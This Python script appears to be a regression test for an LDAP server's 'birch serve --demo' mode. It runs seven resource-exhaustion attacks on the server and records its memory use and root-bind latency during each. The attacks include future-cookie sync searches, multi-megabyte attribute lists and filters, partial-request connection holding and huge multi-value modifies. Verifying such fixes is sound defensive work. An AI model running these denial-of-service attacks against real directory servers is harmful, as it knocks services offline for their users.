#!/usr/bin/env python3
"""Resource attacks of issue 23 (items 1, 2, 3, 4, 6, 7, 8) against a running `birch serve --demo`,
with the server's memory and the latency of a root bind measured around each.

    attacks.py HOST PORT PID [--only NAME ...] [--scale small|issue]

PID is the server's process id (its VmRSS is read from /proc/PID/status). The root password
is read from $BIRCH_ROOT_PASSWORD. Each attack prints one JSON line: the attack, what the
attacker got (result codes, counts), RSS before / during / after (KiB), and the median and
worst root-bind latency (ms) and the bind result codes measured while the attack holds its
resources. `--scale issue` uses the sizes of the issue (33 x 64 sync searches, 4 MB lists,
3.3 MB filters, 100 x 4 MB partial requests); `small` (the default) a tenth of them.

Attacks:
  persist   anonymous refreshAndPersist sync searches with a cookie from the future
            (needs anonymous clients allowed to search: run the server with
            [access] anonymous_posix = true)
  feed      an anonymous sync search with a future cookie, while the root DN changes bob
            and bob fails a bind: how many entries the anonymous client is told of
  memo      rootDSE searches with large attribute lists and searches under large base
            DNs, anonymous and as bob
  paged     bob parks paged searches (page size 1) with a large OR filter, on 4 connections
  partial   anonymous connections each send all but the last bytes of a large request
  hashing   anonymous Modify requests setting alice's userPassword to 400 values (item 4:
            they must be refused before any hashing; the root binds measure the hashing pool)
  values    bob replaces his telephoneNumber with 150,000 values (a tenth at small scale;
            item 6: refused with 11 before any work); root binds measured meanwhile

Only ever talks to HOST:PORT. Plain sockets and a minimal BER encoder: no dependencies.
"""
import json
import os
import socket
import statistics
import sys
import threading
import time

HOST, PORT, PID = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ARGS = sys.argv[4:]
ONLY = [ARGS[i + 1] for i, a in enumerate(ARGS) if a == "--only"]
SCALE = next((ARGS[i + 1] for i, a in enumerate(ARGS) if a == "--scale"), "small")
ISSUE = SCALE == "issue"
SUFFIX = "dc=example,dc=org"
ROOT_DN = "cn=admin," + SUFFIX
ROOT_PW = os.environ.get("BIRCH_ROOT_PASSWORD", "admin-secret")
BOB = "uid=bob,ou=people," + SUFFIX
PEOPLE = "ou=people," + SUFFIX
FUTURE = b"rid=000,csn=99991231235959.999999Z#000000#000#000000"


# --- BER ---------------------------------------------------------------------------------

def length(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, content):
    return bytes([tag]) + length(len(content)) + content


def integer(n, tag=0x02):
    return tlv(tag, n.to_bytes(max(1, (n.bit_length() + 8) // 8), "big", signed=True))


def octets(s, tag=0x04):
    return tlv(tag, s if isinstance(s, bytes) else s.encode())


def seq(*parts, tag=0x30):
    return tlv(tag, b"".join(parts))


def control(oid, value, critical=True):
    return seq(octets(oid), tlv(0x01, b"\xff" if critical else b"\x00"), octets(value))


def message(msgid, op, controls=()):
    ctrl = seq(*controls, tag=0xA0) if controls else b""
    return seq(integer(msgid), op, ctrl)


def bind(msgid, dn, pw):
    return message(msgid, seq(integer(3), octets(dn), octets(pw, 0x80), tag=0x60))


PRESENT_OC = octets("objectClass", 0x87)


def modify_replace(msgid, dn, attr, values):
    change = seq(integer(2, 0x0A), seq(octets(attr), seq(*(octets(v) for v in values), tag=0x31)))
    return message(msgid, seq(octets(dn), seq(change), tag=0x66))


def equality(attr, value):
    return seq(octets(attr), octets(value), tag=0xA3)


def search(msgid, base, filt=PRESENT_OC, attrs=(), scope=2, controls=()):
    op = seq(octets(base), integer(scope, 0x0A), integer(0, 0x0A), integer(0), integer(0),
             tlv(0x01, b"\x00"), filt, seq(*(octets(a) for a in attrs)), tag=0x63)
    return message(msgid, op, controls)


def sync_control(persist, cookie=None):
    value = seq(integer(3 if persist else 1, 0x0A), *( [octets(cookie)] if cookie else []))
    return control("1.3.6.1.4.1.4203.1.9.1.1", value)


def paged_control(size, cookie=b""):
    return control("1.2.840.113556.1.4.319", seq(integer(size), octets(cookie)), critical=False)


def read_tlv(buf, i):
    """(tag, content start, content end) of the TLV at buf[i], or None if incomplete."""
    if i + 2 > len(buf):
        return None
    tag, first = buf[i], buf[i + 1]
    j = i + 2
    if first < 0x80:
        n = first
    else:
        k = first & 0x7F
        if j + k > len(buf):
            return None
        n = int.from_bytes(buf[j:j + k], "big")
        j += k
    if j + n > len(buf):
        return None
    return tag, j, j + n


class Conn:
    def __init__(self, timeout=20):
        self.s = socket.create_connection((HOST, PORT), timeout=timeout)
        self.buf = b""

    def send(self, data):
        self.s.sendall(data)

    def recv_msg(self):
        """(msgid, op tag, op content bytes, whole message), or None when closed."""
        while True:
            t = read_tlv(self.buf, 0) if self.buf else None
            if t:
                _, start, end = t
                whole = self.buf[:end]
                self.buf = self.buf[end:]
                _, ms, me = read_tlv(whole, start)
                msgid = int.from_bytes(whole[ms:me], "big")
                op = read_tlv(whole, me)
                return msgid, whole[me], whole[op[1]:op[2]], whole
            try:
                chunk = self.s.recv(1 << 20)
            except (ConnectionResetError, socket.timeout):
                return None
            if not chunk:
                return None
            self.buf += chunk

    def result(self, msgid):
        """The result code of msgid's final response (entries skipped); -1 when closed."""
        while True:
            m = self.recv_msg()
            if m is None:
                return -1
            mid, tag, content, _ = m
            if mid == msgid and tag not in (0x64, 0x73, 0x79):  # entry, reference, intermediate
                if tag == 0x78 and mid == 0:
                    return -1
                _, s, e = read_tlv(content, 0)
                return int.from_bytes(content[s:e], "big")

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def rss():
    for line in open(f"/proc/{PID}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return -1


class BindProbe:
    """Root binds on fresh connections every 100 ms while an attack holds its resources."""

    def __init__(self):
        self.lat, self.codes, self.stop = [], {}, threading.Event()
        self.t = threading.Thread(target=self.run, daemon=True)

    def run(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                c = Conn(timeout=30)
                c.send(bind(1, ROOT_DN, ROOT_PW))
                code = c.result(1)
                c.close()
            except OSError:
                code = -2
            self.lat.append((time.monotonic() - t0) * 1000)
            self.codes[code] = self.codes.get(code, 0) + 1
            time.sleep(0.1)

    def __enter__(self):
        self.t.start()
        return self

    def __exit__(self, *a):
        self.stop.set()
        self.t.join()

    def report(self):
        return {"bind_ms_p50": round(statistics.median(self.lat), 1) if self.lat else None,
                "bind_ms_max": round(max(self.lat), 1) if self.lat else None,
                "bind_codes": {str(k): v for k, v in self.codes.items()}}


def held(seconds=3):
    """Measures bind latency for `seconds` while the attack holds; returns the probe."""
    with BindProbe() as p:
        time.sleep(seconds)
    return p


# --- attacks -----------------------------------------------------------------------------

def attack_persist():
    conns_n, per = (33, 64) if ISSUE else (8, 16)
    before = rss()
    conns, outcome = [], {}
    for _ in range(conns_n):
        try:
            c = Conn()
            c.send(b"".join(search(i, SUFFIX, attrs=["1.1"], controls=[sync_control(True, FUTURE)])
                            for i in range(1, per + 1)))
            conns.append(c)
        except OSError:
            outcome["connect_failed"] = outcome.get("connect_failed", 0) + 1
    for c in conns:
        done = set()
        c.s.settimeout(2)
        while len(done) < per:
            m = c.recv_msg()
            if m is None:
                break
            mid, tag, content, _ = m
            if mid in done:
                continue
            if tag == 0x79:
                key = "persisting"
            elif tag == 0x65:
                _, s, e = read_tlv(content, 0)
                key = "done_%d" % int.from_bytes(content[s:e], "big")
            else:
                continue
            done.add(mid)
            outcome[key] = outcome.get(key, 0) + 1
    p = held()
    during = rss()
    for c in conns:
        c.close()
    time.sleep(1)
    return {"sent": conns_n * per, "got": outcome, "rss_before": before, "rss_during": during,
            "rss_after": rss(), **p.report()}


def attack_feed():
    before = rss()
    anon = Conn()
    anon.send(search(1, SUFFIX, attrs=["1.1"], controls=[sync_control(True, FUTURE)]))
    admin = Conn()
    admin.send(bind(1, ROOT_DN, ROOT_PW))
    admin.result(1)
    changes = 5
    for i in range(changes):
        mod = seq(octets(BOB), seq(seq(integer(2, 0x0A), seq(octets("description"), seq(octets(f"change {i}"), tag=0x31)))),
                  tag=0x66)
        admin.send(message(10 + i, mod))
        admin.result(10 + i)
        c = Conn()
        c.send(bind(1, BOB, "wrong"))
        c.result(1)
        c.close()
    named, ended = [], None
    anon.s.settimeout(2)
    while True:
        m = anon.recv_msg()
        if m is None:
            break
        mid, tag, content, _ = m
        if tag == 0x64:
            _, s, e = read_tlv(content, 0)
            named.append(content[s:e].decode(errors="replace"))
        elif tag == 0x65:
            _, s, e = read_tlv(content, 0)
            ended = int.from_bytes(content[s:e], "big")
            break
    anon.close()
    admin.close()
    return {"changes": changes * 2, "entries_told": len(named), "distinct_dns": sorted(set(named)),
            "sync_result": ended, "rss_before": before, "rss_after": rss()}


def big_attr_list(n_bytes, tag):
    names, size, i = [], 0, 0
    while size < n_bytes:
        a = f"x-{tag}-{i:07d}-attribute"
        names.append(a)
        size += len(a) + 2
        i += 1
    return names


def attack_memo():
    size = 4_000_000 if ISSUE else 1_000_000
    n_lists, n_dns = (40, 30) if ISSUE else (20, 10)
    out = {"rss_before": rss()}
    # Anonymous, as in the issue: each search is a request larger than what is allowed
    # before a bind (item 8).
    codes = {}
    for n in range(n_lists):
        c = Conn()
        try:
            c.send(search(2, "", attrs=big_attr_list(size, f"a{n}"), scope=0))
            code = c.result(2)
        except OSError:
            code = -1
        codes[code] = codes.get(code, 0) + 1
        c.close()
    out["anonymous_codes"] = {str(k): v for k, v in codes.items()}
    out["rss_after_anonymous"] = rss()
    c = Conn(timeout=60)
    c.send(bind(1, BOB, "bob-secret"))
    c.result(1)
    codes = {}
    for n in range(n_lists):
        c.send(search(2 + n, "", attrs=big_attr_list(size, f"b{n}"), scope=0))
        code = c.result(2 + n)
        codes[code] = codes.get(code, 0) + 1
    for n in range(n_dns):
        base = "cn=" + "a" * int(size * 0.9) + f"{n}," + PEOPLE
        c.send(search(100 + n, base, attrs=["1.1"], scope=0))
        code = c.result(100 + n)
        codes[code] = codes.get(code, 0) + 1
    out["bob_codes"] = {str(k): v for k, v in codes.items()}
    p = held(2)
    c.close()
    time.sleep(1)
    out.update(rss_after=rss(), **p.report())
    return out


def attack_paged():
    # 150,000 terms are a 3.2 MB filter (the issue's 3.3 MB).
    terms = 150_000 if ISSUE else 15_000
    conns_n, per = (4, 8) if ISSUE else (2, 8)
    before = rss()
    conns, codes = [], {}
    for k in range(conns_n):
        c = Conn(timeout=120)
        c.send(bind(1, BOB, "bob-secret"))
        c.result(1)
        for j in range(per):
            filt = seq(PRESENT_OC, *(equality("uid", f"p{k}{j}{i:07d}") for i in range(terms)), tag=0xA1)
            c.send(search(10 + j, PEOPLE, filt, attrs=["1.1"], controls=[paged_control(1)]))
            code = c.result(10 + j)
            codes[code] = codes.get(code, 0) + 1
        conns.append(c)
    p = held()
    during = rss()
    for c in conns:
        c.close()
    time.sleep(1)
    return {"filter_terms": terms, "searches": conns_n * per, "codes": {str(k): v for k, v in codes.items()},
            "rss_before": before, "rss_during": during, "rss_after": rss(), **p.report()}


def attack_partial():
    conns_n = 100 if ISSUE else 30
    size = 4_000_000
    request = search(2, "", attrs=big_attr_list(size - 200, "p"), scope=0)
    partial = request[:-100]
    before = rss()
    conns, refused = [], 0
    for _ in range(conns_n):
        c = Conn(timeout=5)
        try:
            c.send(partial)
        except OSError:
            refused += 1
        conns.append(c)
    time.sleep(0.5)
    p = held()
    during = rss()
    open_n = 0
    for c in conns:
        c.s.settimeout(0.2)
        try:
            data = c.s.recv(1 << 16)
            # The notice of disconnection, then the end; or nothing yet (still open).
            while data:
                data = c.s.recv(1 << 16)
        except socket.timeout:
            open_n += 1
        except OSError:
            pass
        c.close()
    time.sleep(1)
    return {"connections": conns_n, "request_bytes": len(request), "send_failed": refused,
            "still_open_after_3s": open_n, "rss_before": before, "rss_during": during, "rss_after": rss(),
            **p.report()}


def attack_hashing():
    requests = 8 if ISSUE else 2
    values = ["guess-%04d" % i for i in range(400)]
    alice = "uid=alice,ou=people," + SUFFIX
    before = rss()
    codes = {}
    with BindProbe() as p:
        conns = []
        for i in range(requests):
            c = Conn(timeout=120)
            c.send(modify_replace(1, alice, "userPassword", values))
            conns.append(c)
        for c in conns:
            code = c.result(1)
            codes[str(code)] = codes.get(str(code), 0) + 1
            c.close()
        time.sleep(2)
    return {"requests": requests, "values": len(values), "codes": codes, "rss_before": before,
            "rss_after": rss(), **p.report()}


def attack_values():
    n = 150_000 if ISSUE else 15_000
    before = rss()
    c = Conn(timeout=300)
    c.send(bind(1, BOB, "bob-secret"))
    bound = c.result(1)
    with BindProbe() as p:
        t0 = time.monotonic()
        c.send(modify_replace(2, BOB, "telephoneNumber", ["+86 10 %07d" % i for i in range(n)]))
        code = c.result(2)
        took = round((time.monotonic() - t0) * 1000, 1)
        time.sleep(2)
    c.close()
    return {"values": n, "bind": bound, "code": code, "answer_ms": took, "rss_before": before,
            "rss_after": rss(), **p.report()}


ATTACKS = {"persist": attack_persist, "feed": attack_feed, "memo": attack_memo, "paged": attack_paged,
           "partial": attack_partial, "hashing": attack_hashing, "values": attack_values}
for name, run in ATTACKS.items():
    if ONLY and name not in ONLY:
        continue
    t0 = time.monotonic()
    try:
        res = run()
    except Exception as e:  # report and go on with the next attack
        res = {"error": repr(e)}
    res = {"attack": name, "scale": SCALE, "seconds": round(time.monotonic() - t0, 1), **res}
    print(json.dumps(res), flush=True)
